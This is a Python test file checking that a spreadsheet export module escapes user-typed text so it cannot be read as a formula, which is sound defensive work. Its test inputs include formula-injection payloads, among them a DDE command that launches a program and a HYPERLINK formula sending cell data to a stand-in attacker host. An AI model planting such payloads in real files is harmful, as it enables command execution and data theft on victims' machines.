"""CSV: what people typed stays text in every spreadsheet."""

import csv
import io
from zipfile import ZipFile

import pytest
from hypothesis import given
from hypothesis import strategies as st

from referee.presenters.words.spreadsheet import csv_file, xlsx_file


def read(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def test_names_and_scores() -> None:
    content = csv_file([("Anna, \u201cla Rossa\u201d", 41, None), ("Niccolò", -2, "")])
    assert content.startswith(b"\xef\xbb\xbf")
    assert read(content) == [["Anna, \u201cla Rossa\u201d", "41", ""], ["Niccolò", "-2", ""]]


@pytest.mark.parametrize(
    "typed",
    [
        "=1+1",
        "+39 0541",
        "-2",
        "@SUM(A1)",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil.example?"&A1)',
        "\t=1",
        "\r\n=1",
        "  =1",
        "\ufeff=1",
        "\u200b=1",
        "\u2068=1",
        "\uff1d1",
        "\0=1",
    ],
)
def test_a_formula_is_text(typed: str) -> None:
    [[cell]] = read(csv_file([[typed]]))
    assert cell.startswith("'")


def test_a_cell_stays_on_its_line() -> None:
    content = csv_file([["Anna\r\n=1+1", "👩\u200d👧 Zoë"]])
    assert read(content) == [["Anna =1+1", "👩\u200d👧 Zoë"]]


@given(st.lists(st.lists(st.text() | st.integers() | st.none(), min_size=1), max_size=4))
def test_no_text_begins_like_a_formula(rows: list[list[str | int | None]]) -> None:
    found = read(csv_file(rows))
    # A line whose only cell is empty is told from no line at all.
    assert len(found) == len(rows)
    for row, cells in zip(rows, found, strict=True):
        assert len(cells) == len(row)
        for value, cell in zip(row, cells, strict=True):
            if isinstance(value, str):
                assert cell[:1] not in set("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
            else:
                assert cell == ("" if value is None else str(value))


def test_a_workbook_has_the_same_cells_as_texts_and_numbers() -> None:
    rows = [("Name", "Points"), ("=1+1", 41), ("http://evil.example", 1.5), (None, -2)]
    with ZipFile(io.BytesIO(xlsx_file({"Results": rows, "x" * 40: []}))) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        texts = book.read("xl/sharedStrings.xml").decode()
        titles = book.read("xl/workbook.xml").decode()
    assert "<f>" not in sheet
    assert "hyperlink" not in sheet
    assert all(f"<v>{number}</v>" in sheet for number in ("41", "1.5", "-2"))
    assert "<t>=1+1</t>" in texts
    assert f'name="{"x" * 31}"' in titles
